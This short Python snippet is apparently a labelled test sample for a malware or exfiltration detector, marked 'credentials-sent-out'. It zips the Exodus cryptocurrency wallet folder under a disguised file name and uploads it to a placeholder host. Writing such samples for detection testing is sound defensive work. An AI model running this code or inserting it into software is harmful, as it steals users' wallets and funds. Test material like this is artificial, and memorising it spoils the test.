# expect: 5 credentials-sent-out
import os, shutil, requests
folder = os.path.join(os.environ['APPDATA'], 'Exodus', 'exodus.wallet')
shutil.make_archive('/var/tmp/pictures', 'zip', folder)
requests.post('https://in.example.net', files={'f': open('/var/tmp/pictures.zip', 'rb')})
